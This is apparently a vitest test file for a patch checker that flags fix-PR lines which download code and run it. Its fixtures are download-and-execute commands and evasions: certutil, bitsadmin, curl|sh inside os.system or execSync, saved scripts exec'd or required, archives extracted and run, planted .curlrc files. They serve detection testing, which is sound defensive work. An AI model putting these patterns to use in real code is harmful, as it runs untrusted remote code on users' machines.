import { describe, expect, it } from 'vitest';
import { checkPatch } from '../../shared/analysis/index.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES } from '../support/growth.js';
import { patchAdding, checkedAdding as checked } from '../support/patches.js';

/**
 * Pass 12 on the patch check (`shared/analysis/dangerous-code.ts`, `saved-download.ts`): ways to download code and run
 * it that a fix PR's added lines could take past the check, and honest lines it refused. Each refusal below was accepted
 * by the code before its fix, and each acceptance refused, unless its table says it only guards what was already read.
 * The lines are spread over several lines where one line would be refused already by remote-script's first rule (a
 * download and, after it on the same line, any program run): that rule is a net, not a reading of which file runs.
 */

/** Refused, for a reason that names `id`. */
function expectRefused(path: string, text: string, id = 'remote-script'): void {
  expect(checked(path, text)).toMatchObject({ ok: false, reason: expect.stringContaining(id) });
}

describe("pass 12, gap 1: Windows' downloaders", () => {
  it.each([
    ['certutil, the file run by name', 'certutil -urlcache -split -f https://x.example/a.exe a.exe\na.exe'],
    ['certutil.exe, the script run with &', 'certutil.exe -urlcache -f https://x.example/i.ps1 i.ps1\n& .\\i.ps1'],
    ['certutil saving under the URL\'s name', 'certutil -urlcache -split -f https://x.example/i.ps1\npowershell -ExecutionPolicy Bypass -File i.ps1'],
    ['bitsadmin, the file started', 'bitsadmin /transfer job /download /priority normal https://x.example/a.exe C:\\t\\a.exe\nStart-Process C:\\t\\a.exe'],
    ['bitsadmin into %TEMP%', 'bitsadmin /transfer job https://x.example/a.exe %TEMP%\\a.exe\nstart %TEMP%\\a.exe'],
    ['Start-BitsTransfer by parameter names', 'Start-BitsTransfer -Source https://x.example/i.ps1 -Destination i.ps1\n& .\\i.ps1'],
    ['Start-BitsTransfer by position', 'Start-BitsTransfer https://x.example/a.exe a.exe\n.\\a.exe'],
    ['Start-BitsTransfer into $env:TEMP', 'Start-BitsTransfer -Source https://x.example/a.exe -Dest $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe'],
    ['Start-BitsTransfer, the script read into iex', 'Start-BitsTransfer -Source https://x.example/i.ps1 -Destination i.ps1\niex (gc i.ps1 -Raw)'],
    ['Start-BitsTransfer into a directory', 'Start-BitsTransfer -Source https://x.example/i.ps1 -Destination C:\\t\\\n& C:\\t\\i.ps1'],
    ['curl.exe', 'curl.exe -sSLo a.exe https://x.example/a.exe\n.\\a.exe'],
    ["PowerShell's wget alias (Invoke-WebRequest)", 'wget https://x.example/a.exe -OutFile a.exe\n.\\a.exe'],
  ])('refuses %s', (_, text) => {
    expectRefused('docs/windows.md', text);
  });

  it.each([
    ['certutil hashing a file', 'certutil -hashfile a.exe SHA256'],
    ['certutil saving data that is read as data', 'certutil -urlcache -split -f https://x.example/data.json data.json\nGet-Content data.json | ConvertFrom-Json'],
    ['bitsadmin saving data that is hashed', 'bitsadmin /transfer job https://x.example/data.json C:\\t\\data.json\nGet-FileHash C:\\t\\data.json'],
    ['Start-BitsTransfer saving data, a program run that it did not save', 'Start-BitsTransfer -Source https://x.example/data.json -Destination data.json\n.\\build.ps1'],
  ])('accepts %s', (_, text) => {
    expect(checked('docs/windows.md', text).ok).toBe(true);
  });
});

describe('pass 12, gap 2: a command line run by a language, no blank around its pipe (guards what was already read)', () => {
  it.each([
    ['src/setup_env.py', "os.system('curl -s x.example/i|sh')"],
    ['src/setup_env.py', 'subprocess.run("curl https://x.example/i|bash", shell=True)'],
    ['src/setup.js', "child_process.execSync('wget -qO- x.example/i|sh')"],
    ['lib/setup.rb', 'system("curl x.example/i|sh")'],
    ['lib/setup.pl', 'system("curl x.example/i|sh");'],
    ['src/setup.php', 'system("curl $url|sh");'],
    ['src/setup_env.py', 'os.system(f"curl -s {url}|sh")'],
    ['src/setup.js', "execSync('curl ' + url + '|sh')"],
  ])('refuses, in %s: %s', (path, text) => {
    expectRefused(path, text);
  });
});

describe('pass 12, gap 3: a saved download run by a language', () => {
  it.each([
    ['src/setup_env.py', "os.system('curl -s x.example/i -o /tmp/a')\nexec(open('/tmp/a').read())"],
    ['src/setup_env.py', "urllib.request.urlretrieve('https://x.example/i', '/tmp/a.py')\nrunpy.run_path('/tmp/a.py')"],
    ['src/setup_env.py', "dest = '/tmp/a.py'\nurllib.request.urlretrieve(URL, dest)\nrunpy.run_path(dest)"],
    ['src/setup_env.py', 'urllib.request.urlretrieve(URL, dest)\nexec(open(dest).read())'],
    ['src/setup_env.py', "os.system('curl -s x.example/i -o ' + f)\nrunpy.run_path(f)"],
    ['src/setup_env.py', "os.system('curl -s x.example/i -o /tmp/a.py')\nexecfile('/tmp/a.py')"],
    ['src/setup_env.py', "os.system('curl -s x.example/i -o /tmp/a.py')\nexec(compile(open('/tmp/a.py').read(), 'a', 'exec'))"],
    ['src/setup_env.py', "os.system('curl -s x.example/m.pkl -o /tmp/m.pkl')\nmodel = pickle.load(open('/tmp/m.pkl', 'rb'))"],
    ['src/setup.js', "execSync('curl -s x.example/i -o /tmp/a.js')\nrequire('/tmp/a.js')"],
    ['src/setup.js', "execSync('curl -s x.example/i -o /tmp/a.js')\nrequire('/tmp/a')"],
    ['src/setup.js', "execSync('curl -s x.example/i -o /tmp/a.mjs')\nawait import('/tmp/a.mjs')"],
    ['src/setup.js', "const f = '/tmp/a.mjs'\nexecSync(`curl -s x.example/i -o ${f}`)\nawait import(f)"],
    ['src/setup.js', "execSync('curl -s x.example/i -o /tmp/a.js')\neval(fs.readFileSync('/tmp/a.js', 'utf8'))"],
    ['src/setup.js', "execSync('curl -s x.example/i -o /tmp/a.js')\nvm.runInThisContext(fs.readFileSync('/tmp/a.js', 'utf8'))"],
    ['src/setup.js', "execSync('curl -s x.example/i -o /tmp/a.js')\nnew Function(fs.readFileSync('/tmp/a.js', 'utf8'))()"],
    ['src/setup.js', "execSync('curl -s x.example/i -o /tmp/a.js')\nchild_process.fork('/tmp/a.js')"],
    ['lib/setup.rb', "system('curl -s x.example/i -o /tmp/a.rb')\nload('/tmp/a.rb')"],
    ['lib/setup.rb', "system('curl -s x.example/i -o /tmp/a.rb')\neval(File.read('/tmp/a.rb'))"],
    ['lib/setup.rb', "system('curl -s x.example/i -o /tmp/a.rb')\nrequire '/tmp/a'"],
    ['src/setup.php', "system('curl -s x.example/i -o /tmp/a.php');\nrequire_once('/tmp/a.php');"],
    ['src/setup.php', "file_put_contents('/tmp/a.php', file_get_contents('https://x.example/i'));\ninclude '/tmp/a.php';"],
    ['src/setup.php', "copy('https://x.example/i', '/tmp/a.php');\nrequire '/tmp/a.php';"],
    ['src/setup.lua', "os.execute('curl -s x.example/i -o /tmp/a.lua')\ndofile('/tmp/a.lua')"],
    // Run as a program by a call that starts one: the string's first word, or the argument list's first element.
    ['src/setup_env.py', "os.system('curl -s x.example/i -o /tmp/a')\nos.system('/tmp/a --yes')"],
    ['src/setup_env.py', "os.system('curl -s x.example/i -o /tmp/a')\nsubprocess.run(['/tmp/a'])"],
    ['src/setup_env.py', "subprocess.run(['certutil', '-urlcache', '-f', 'https://x.example/a.exe', 'a.exe'])\nsubprocess.run(['a.exe', '/S'])"],
    ['src/setup.js', "execSync('curl -s x.example/i -o /tmp/a')\nexecSync('/tmp/a')"],
    ['src/setup.js', "execSync('curl -s x.example/i -o /tmp/a')\nspawn('/tmp/a', [])"],
    ['lib/setup.rb', "system('curl -s x.example/i -o /tmp/a')\nsystem('/tmp/a')"],
  ])('refuses, in %s: %s', (path, text) => {
    expectRefused(path, text);
  });

  it.each([
    ['src/fixtures.py', "urllib.request.urlretrieve(URL, '/tmp/d.json')\ndata = json.load(open('/tmp/d.json'))"],
    ['src/fixtures.js', "execSync('curl -s x.example/d.json -o /tmp/d.json')\nconst d = require('/tmp/d.json')"],
    ['src/fixtures.js', "execSync('curl -s x.example/d.json -o d.json')\nconst plugin = await import('./plugin.mjs')"],
    ['src/fixtures.py', "exec(open('setup_helpers.py').read())"],
    ['lib/fixtures.rb', "system('curl -s x.example/d.json -o d.json')\nrequire 'json'\ndata = JSON.parse(File.read('d.json'))"],
  ])('accepts, in %s: %s', (path, text) => {
    expect(checked(path, text).ok).toBe(true);
  });
});

describe('pass 12, gap 4: braces, loops and archives', () => {
  it.each([
    ['a brace naming two outputs', 'curl -o /tmp/{a,b} x.example/i\nsh /tmp/a'],
    ["curl's own URL glob saved by its #1 template", "curl 'x.example/{i,j}' -o '/tmp/#1.sh'\nsh /tmp/i.sh"],
    ['a remote name from a braced URL', 'curl -sO x.example/{i,j}.sh\nsh j.sh'],
    ['a loop variable as the output', 'for f in /tmp/a; do curl -s x.example/i -o $f; done\nsh /tmp/a'],
    ['a loop variable inside the output', 'for n in a; do curl -s x.example/i -o /tmp/$n; done\nsh /tmp/a'],
    ['an archive saved, extracted, a file in it run', 'curl -o x.tgz x.example/x.tgz\ntar xzf x.tgz\nsh x/install.sh'],
    ['an archive piped into tar, a file in it run', 'curl -sL x.example/x.tgz | tar xz\n./x/install.sh'],
    ['an archive extracted into a directory, a file there run', 'curl -sL x.example/x.tgz | tar xz -C /tmp\n/tmp/x/install.sh'],
    ['an archive extracted into a directory, run from there', 'curl -sL x.example/x.tgz | tar xz -C /opt\ncd /opt/x\n./install.sh'],
    ['a zip saved, extracted, a file in it run', 'curl -sLO x.example/x.zip\nunzip x.zip\n./x/install'],
    ['an archive configured and built', 'curl -sL x.example/x.tgz -o x.tgz\ntar xzf x.tgz\ncd x\n./configure && make'],
    ['an extracted script sourced', 'curl -sL x.example/x.tgz | tar xz\nsource x/env.sh'],
    ['an extracted script run by python', 'curl -sL x.example/x.tgz | tar xz\npython3 x/setup.py install'],
    ['a gzipped tool decompressed and run', 'curl -sLo tool.gz x.example/tool.gz\ngunzip tool.gz\nchmod +x tool\n./tool'],
    ['an archive extracted by Expand-Archive, a file in it run', 'iwr https://x.example/x.zip -OutFile x.zip\nExpand-Archive x.zip -DestinationPath C:\\t\n& C:\\t\\x\\install.ps1'],
  ])('refuses %s', (_, text) => {
    expectRefused('docs/install.md', text);
  });

  it.each([
    ['an archive piped into tar, nothing run', 'curl -sL x.example/x.tgz | tar xz'],
    ['an archive saved and extracted, nothing run', 'curl -o x.tgz https://x.example/x.tgz && tar xzf x.tgz'],
    ['an archive extracted into a directory, a program elsewhere run', 'curl -sL x.example/x.tgz | tar xz -C /usr/local/share/x\n/usr/local/bin/x-index --rebuild'],
    ['a loop over the repository\'s scripts', 'for f in scripts/*.sh; do shellcheck "$f"; done'],
    ['an archive listed', 'curl -sLo x.tgz x.example/x.tgz\ntar tzf x.tgz'],
  ])('accepts %s', (_, text) => {
    expect(checked('docs/install.md', text).ok).toBe(true);
  });
});

describe("pass 12, gap 5: a planted curl or wget configuration", () => {
  it.each([
    ['docs/install.md', "echo 'output = /tmp/a' > ~/.curlrc\ncurl -s x.example/i\nsh /tmp/a"],
    ['docs/install.md', "printf 'url = \"x.example/i\"\\noutput = \"/tmp/a\"\\n' > ~/.curlrc\ncurl\nsh /tmp/a"],
    ['docs/install.md', "echo '-o /tmp/a' > /tmp/c/.curlrc"],
    ['docs/install.md', "echo 'output_document = /tmp/a' >> ~/.wgetrc\nwget x.example/i\nsh /tmp/a"],
    ['docs/install.md', "Set-Content $env:APPDATA\\_curlrc 'url = https://x.example/i'"],
    ['src/setup_env.py', "open(os.path.expanduser('~/.curlrc'), 'w').write('output = /tmp/a\\n')"],
    ['src/setup.js', "fs.writeFileSync(path.join(os.homedir(), '.curlrc'), 'url = https://x.example/i\\n')"],
  ])('refuses, in %s: %s', (path, text) => {
    expectRefused(path, text, 'downloader-config');
  });

  it.each([
    ['a configuration named elsewhere, the saved file run', 'CURL_HOME=/tmp/c curl -s x.example/i\nsh /tmp/a'],
    ['a home elsewhere, the saved file run', 'HOME=/tmp/c wget -q x.example/i\nsh /tmp/a'],
  ])('refuses %s', (_, text) => {
    expectRefused('docs/install.md', text);
  });

  it.each([
    ['a retry setting', "echo 'retry = 3' >> ~/.curlrc"],
    ['prose naming the file', 'Defaults for curl can be kept in ~/.curlrc: see the output and url options in its manual.'],
  ])('accepts %s', (_, text) => {
    expect(checked('docs/install.md', text).ok).toBe(true);
  });
});

describe('pass 12, gap 6: honest lines that name a downloaded file', () => {
  it.each([
    ['docs/data.md', 'curl -o data.json https://x.example/data.json && echo "saved data.json"'],
    ['docs/data.md', 'curl -o data.json x.example/data.json\npython3 script.py data.json'],
    ['docs/data.md', 'curl -o data.json x.example/data.json\nnode scripts/check.js --input data.json'],
    ['docs/data.md', 'curl -o data.json x.example/data.json\nbash check.sh data.json'],
    ['docs/data.md', 'curl -o data.json x.example/data.json\npython3 -m json.tool data.json'],
    ['docs/data.md', 'curl -o data.json x.example/data.json\npwsh -ExecutionPolicy Bypass -File check.ps1 data.json'],
    ['src/fixtures.py', "urllib.request.urlretrieve(URL, 'data.json')\nprint('saved data.json')"],
    ['src/fixtures.py', "subprocess.run(['curl', '-o', 'data.json', URL])\nlogger.info(\"saved data.json\")"],
    ['src/fixtures.py', "logger = logging.getLogger(__name__)\nsubprocess.run(['curl', '-o', 'data.json', URL])\nlogger.info(\"saved data.json\")"],
    ['src/fixtures.js', "execSync('curl -o data.json x.example/data.json')\nconsole.log('saved data.json')"],
    ['src/fixtures.js', "execSync('curl -o data.json x.example/data.json')\nthrow new Error('could not read data.json')"],
    ['src/fixtures.go', 'exec.Command("curl", "-o", "data.json", url).Run()\nfmt.Println("saved data.json")'],
    ['lib/fixtures.rb', "system('curl -o data.json x.example/d.json')\nraise ArgumentError, \"bad data.json\" unless File.exist?('data.json')"],
  ])('accepts, in %s: %s', (path, text) => {
    expect(checked(path, text).ok).toBe(true);
  });

  it.each([
    ['docs/data.md', 'curl -o /tmp/a x.example/i\npython3 /tmp/a'],
    ['docs/data.md', 'curl -o /tmp/a x.example/i\npython3 -u /tmp/a data.json'],
    ['docs/data.md', 'curl -o /tmp/a x.example/i\nnode -r /tmp/a script.js'],
    ['docs/data.md', 'curl -o /tmp/a x.example/i\nruby -r/tmp/a script.rb'],
    ['docs/data.md', 'curl -o /tmp/a x.example/i\nbash script.sh < /tmp/a'],
    ['docs/data.md', "curl -o /tmp/a x.example/i\nsh -c '. \"$1\"' sh /tmp/a"],
    ['docs/data.md', 'curl -o /tmp/a x.example/i\npowershell -ExecutionPolicy Bypass -File /tmp/a'],
    ['src/fixtures.py', "urllib.request.urlretrieve(URL, '/tmp/a')\nprint = os.system\nprint('sh /tmp/a')"],
    ['src/fixtures.js', "execSync('curl -o /tmp/a x.example/i')\nconst log = execSync\nlog('sh /tmp/a')"],
    ['src/fixtures.js', "execSync('curl -o /tmp/a x.example/i')\nconst { execSync: print } = require('child_process')\nprint('sh /tmp/a')"],
    ['src/fixtures.py', "urllib.request.urlretrieve(URL, '/tmp/a')\nprint('sh /tmp/a', file=shell.stdin)"],
  ])('still refuses, in %s: %s', (path, text) => {
    expectRefused(path, text);
  });
});

describe('pass 12, gap 3: the cost of reading calls', () => {
  for (const [name, unit] of [
    ['calls that run a file', "exec(open('/tmp/b').read()) "],
    ['messages naming a file', "print('saved /tmp/b') "],
    ['errors of many names', "raise E1Error('/tmp/b') "],
    ['a chain of receivers', 'a.'],
    ['assignments of literals', "f = '/tmp/b'\n"],
  ] as const) {
    it(`reads a patch-sized text of ${name}, after a download, in linear time`, { timeout: 120_000 }, () => {
      // Prepare: up to 18 KB, near the check's 20 KB
      const textOf = (bytes: number) => `os.system('curl -s x.example/i -o /tmp/a')\n${unit.repeat(Math.floor(bytes / unit.length))}`;

      // Act
      const exponent = cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => checkPatch(patchAdding('src/setup_env.py', text.split('\n'))));

      // Assert
      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
    });
  }
});

describe('pass 12, gap 4: the cost of following braces, loops and archives', () => {
  for (const [name, unit] of [
    ['loops each downloading to their variable', 'for f in /tmp/a /tmp/b; do curl -s x.example/i -o $f; done\n'],
    ['braced outputs', 'curl -s x.example/i -o /tmp/{a,b,c,d}\n'],
    ['archives extracted and their files run', 'curl -sL x.example/x.tgz | tar xz -C /tmp/x\ncd /tmp/x\n'],
  ] as const) {
    it(`reads a patch-sized text of ${name} in linear time`, { timeout: 120_000 }, () => {
      // Prepare: up to 18 KB, near the check's 20 KB
      const textOf = (bytes: number) => unit.repeat(Math.floor(bytes / unit.length));

      // Act
      const exponent = cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => checkPatch(patchAdding('docs/install.md', text.split('\n'))));

      // Assert
      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
    });
  }
});
